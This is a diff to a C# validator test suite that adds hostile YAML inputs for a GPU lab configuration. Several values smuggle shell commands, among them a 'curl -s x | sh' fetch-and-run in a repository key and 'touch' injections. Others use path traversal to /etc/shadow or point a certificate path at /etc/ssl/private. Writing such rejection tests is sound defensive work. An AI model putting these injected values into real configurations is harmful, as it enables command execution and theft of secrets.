@@ -32,12 +32,16 @@ public class HostileCorpusTests
         new("host: shell", "host: 192.168.50.11", $"host: \"192.168.50.11{Pwn}\"", "lab:nodes[0].host"),
         // SSH
         new("ssh user: shell", "user: labops", "user: \"labops; touch /tmp/lab-pwned\"", "lab:ssh.user"),
+        new("ssh user: root, let in before the driver reboot", "user: labops", "user: root", "lab:ssh.user"),
+        new("ssh boot timeout: shell", "auth: agent", $"auth: agent\n    bootTimeout: \"15m{Pwn}\"", "lab:ssh.bootTimeout"),
+        new("ssh boot timeout: a week", "auth: agent", "auth: agent\n    bootTimeout: 168h", "lab:ssh.bootTimeout"),
         new("ssh port: overflow", "port: 22", "port: 99999999999999999999", "lab:ssh.port"),
         new("ssh port: wrong type", "port: 22", "port: [22]", "lab:ssh.port"),
         // Versions
         new("package pin: quote break", "chrony: 4.5-1ubuntu4.2", "chrony: \"4.5'; touch /tmp/lab-pwned; '\"", "lab:versions.osPackages.chrony"),
         new("package name: shell", "pciutils: 1:3.10.0-2build1", $"\"pci{Pwn}\": 1:3.10.0-2build1", "lab:versions.osPackages"),
         new("nvidia repository key: not a fingerprint", "containerToolkit: 1.17.8-1", "containerToolkit: 1.17.8-1\n    nvidiaRepositoryKey: \"C95B321B; curl -s x | sh\"", "lab:versions.nvidiaRepositoryKey"),
+        new("hashicorp repository key: shell", "containerToolkit: 1.17.8-1", $"containerToolkit: 1.17.8-1\n    hashicorpRepositoryKey: \"798AEC654E5C15428C8E42EEAA16FCBCA621E701{Pwn}\"", "lab:versions.hashicorpRepositoryKey"),
         new("driver: trailing newline", "nvidiaDriver: 580.95.05-0ubuntu0.24.04.2", "nvidiaDriver: \"580.95.05-0ubuntu0.24.04.2\\n\"", "lab:versions.nvidiaDriver"),
         new("ubuntu: NUL", "ubuntu: \"24.04\"", "ubuntu: \"24.04\\0\"", "lab:versions.ubuntu"),
         // Nodes
@@ -105,6 +109,10 @@ public class HostileCorpusTests
         new("vault secret name: traversal", "- name: ngc\n        fields", "- name: ../ngc\n        fields", "lab:vault.secrets[0].name"),
         new("agent file: escapes /var/run/secrets", "path: /var/run/secrets/ngc-api-key", "path: /var/run/secrets/../../etc/shadow", "lab:vault.agentFiles[0].path"),
         new("ca cert: relative", "caCert: /usr/local/share/ca-certificates/ai-lab-ca.crt", "caCert: ai-lab-ca.crt", "lab:vault.caCert"),
+        new("ca: command substitution", "ca: collect", $"ca: \"{Pwn}\"", "lab:vault.ca"),
+        new("ca: a certificate with a shell tail", "ca: collect", $"ca: \"-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\\n{Pwn}\"", "lab:vault.ca"),
+        new("ca: a list", "ca: collect", "ca: [collect]", "lab:vault.ca"),
+        new("ca cert: outside the trust store", "caCert: /usr/local/share/ca-certificates/ai-lab-ca.crt", "caCert: /etc/ssl/private/lab.pem", "lab:vault.caCert"),
         new("rotation: past the bound", "rotation: 0", "rotation: 1000001", "lab:vault.rotation"),
         new("token ttl: shell", "tokenTtl: 24h", $"tokenTtl: \"24h{Pwn}\"", "lab:vault.roles[0].tokenTtl"),
         // YAML itself
